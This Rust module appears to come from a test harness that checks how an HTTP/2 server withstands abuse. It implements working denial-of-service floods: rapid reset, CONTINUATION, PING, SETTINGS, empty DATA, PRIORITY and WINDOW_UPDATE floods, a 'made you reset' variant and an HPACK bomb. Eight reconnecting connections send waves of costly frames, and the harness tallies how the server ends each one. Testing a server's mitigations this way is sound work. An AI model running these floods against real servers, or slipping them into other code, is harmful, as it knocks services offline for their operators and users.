//! Floods of HTTP/2: a few connections that send frames which cost the other side
//! more than them, and come again when they are ended.

use std::net::SocketAddr;
use std::sync::Arc;
use std::time::Duration;

use futures::future::join_all;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::time::{sleep, timeout};

use super::frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PREFACE, PRIORITY, RST_STREAM, SETTINGS, WINDOW_UPDATE,
    block, frame, goaway, head,
};
use super::tally::Tally;

const CONNECTIONS: usize = 8;
/// Frames, or what one costs, sent at once, and the pause behind them: the load
/// has the core of the bystanders.
const WAVE: u32 = 50;
const PAUSE: Duration = Duration::from_millis(5);
/// Waves without being ended are enough.
const WAVES: u32 = 400;
/// Before one that was ended comes again.
const AGAIN: Duration = Duration::from_millis(100);
const LAST_WORD: Duration = Duration::from_secs(2);
/// As the tally has it.
pub(super) const CALM: &str = "GOAWAY 11";
const CANCEL: [u8; 4] = [0, 0, 0, 8];

/// A kind of flood.
#[derive(Debug, Clone, Copy)]
pub(super) struct Kind {
    pub(super) name: &'static str,
    /// What comes before it, and then again and again, by number.
    first: fn() -> Vec<u8>,
    next: fn(u32) -> Vec<u8>,
}

pub(super) const KINDS: [Kind; 9] = [
    Kind {
        name: "rapid reset",
        first: Vec::new,
        next: |number| {
            let stream = 2 * number + 1;
            let request = frame(HEADERS, END_STREAM | END_HEADERS, stream, &head("GET"));
            [request, frame(RST_STREAM, 0, stream, &CANCEL)].concat()
        },
    },
    Kind {
        name: "CONTINUATION flood",
        first: || frame(HEADERS, END_STREAM, 1, &head("GET")),
        next: |_| frame(CONTINUATION, 0, 1, &block(&[("x", "y")])),
    },
    Kind {
        name: "PING flood",
        first: Vec::new,
        next: |_| frame(PING, 0, 0, &[0; 8]),
    },
    Kind {
        name: "SETTINGS flood",
        first: Vec::new,
        next: |_| frame(SETTINGS, 0, 0, &[]),
    },
    Kind {
        name: "empty DATA flood",
        first: || frame(HEADERS, END_HEADERS, 1, &head("POST")),
        next: |_| frame(DATA, 0, 1, &[]),
    },
    Kind {
        name: "PRIORITY flood",
        first: Vec::new,
        next: |number| frame(PRIORITY, 0, 2 * number + 1, &[0; 5]),
    },
    Kind {
        name: "WINDOW_UPDATE flood",
        first: Vec::new,
        next: |_| frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]),
    },
    Kind {
        name: "made you reset",
        first: Vec::new,
        next: |number| {
            let stream = 2 * number + 1;
            let request = frame(HEADERS, END_STREAM | END_HEADERS, stream, &head("GET"));
            [request, frame(WINDOW_UPDATE, 0, stream, &[0x7f, 0xff, 0xff, 0xff])].concat()
        },
    },
    Kind {
        // A small head that says it is large: the table is filled once, and its
        // entry named again and again.
        name: "HPACK bomb",
        first: || {
            let mut first = head("GET");
            // Literal with incremental indexing: x = 3000 bytes (RFC 7541 6.2.1, 5.1).
            first.extend([0x40, 1, b'x', 0x7f, 0xb9, 0x16]);
            first.extend([b'y'; 3000]);
            frame(HEADERS, END_STREAM | END_HEADERS, 1, &first)
        },
        next: |number| {
            let mut bomb = head("GET");
            bomb.extend([0x80 | 62; 8000]);
            frame(HEADERS, END_STREAM | END_HEADERS, 2 * number + 3, &bomb)
        },
    },
];

/// Floods until it is dropped.
pub(super) async fn flood(kind: Kind, at: SocketAddr, tally: Arc<Tally>) {
    join_all((0..CONNECTIONS).map(|_| {
        let tally = tally.clone();
        async move {
            loop {
                let how = match TcpStream::connect(at).await {
                    Ok(stream) => {
                        let _open = tally.enter();
                        connection(kind, stream).await
                    }
                    Err(error) => format!("not connected: {}", error.kind()),
                };
                tally.ended(&how);
                sleep(AGAIN).await;
            }
        }
    }))
    .await;
}

/// One connection to its end. Gives how it ended.
async fn connection(kind: Kind, stream: TcpStream) -> String {
    let (mut reader, mut writer) = stream.into_split();
    let mut received = Vec::new();
    let said = async {
        // A write may fail once the last word is on its way.
        if writer.write_all(&[PREFACE, &(kind.first)()].concat()).await.is_err() {
            return;
        }
        let mut number = 0;
        for _ in 0..WAVES {
            let wave: Vec<u8> = (number..number + WAVE).flat_map(kind.next).collect();
            number += WAVE;
            if writer.write_all(&wave).await.is_err() {
                return;
            }
            sleep(PAUSE).await;
        }
    };
    let heard = async { while matches!(reader.read_buf(&mut received).await, Ok(1..)) {} };
    tokio::pin!(said, heard);
    tokio::select! {
        () = &mut heard => {}
        () = &mut said => {
            let _ = timeout(LAST_WORD, heard).await;
        }
    }
    match goaway(&received) {
        Some(code) => format!("GOAWAY {code}"),
        None => "broken off".into(),
    }
}
